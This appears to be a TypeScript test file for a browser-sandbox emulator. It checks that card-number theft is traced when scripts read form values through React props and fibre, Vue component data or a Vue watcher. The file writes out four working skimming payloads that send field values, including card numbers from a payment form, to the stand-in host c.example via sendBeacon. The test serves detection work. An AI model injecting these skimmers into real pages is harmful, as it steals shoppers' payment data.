import assert from 'node:assert/strict';
import { eventsOf, flowsOf, run } from './sandbox-of-tests.ts';

const leak = "navigator.sendBeacon('https://c.example/p', JSON.stringify";

/** Ways to read a form without touching its fields. */
const readers: Readonly<Record<string, string>> = {
  "React's props of a field": `
    setTimeout(() => { const out = {}; document.querySelectorAll('input').forEach(one => { const key = Object.keys(one).find(name => name.startsWith('__reactProps$'));
      if (key) out[one[key].name] = one[key].value }); ${leak}(out)) }, 500)`,
  "React's fibre of a field": `
    document.addEventListener('change', e => { for (const key in e.target) if (/^__reactFiber/.test(key)) ${leak}(e.target[key].memoizedProps.value)) })`,
  "a form's component in Vue": `
    setTimeout(() => { const form = document.querySelector('form'); if (form.__vue__) ${leak}(form.__vue__.$data)) }, 500)`,
  'a watch on it': `
    document.querySelector('#co-payment-form').__vueParentComponent.proxy.$watch(function () { return this.ccNumber }, value => ${leak}(value)))`,
};

describe('emulator: state of frameworks', () => {
  for (const [what, script] of Object.entries(readers))
    it(`shows what is read from ${what}`, async () => {
      const flows = await flowsOf(script);
      assert.ok(
        flows.some(({ field, host }) => field === 'card-number' && host === 'c.example'),
        JSON.stringify(flows),
      );
    });

  it('is not there for who does not speak of it', async () => {
    const trace = await run(
      "for (const key in document.querySelector('#cc_number')) if (/^__/.test(key)) fetch('/' + key)",
    );
    assert.deepEqual(eventsOf(trace, 'request'), []);
  });
});
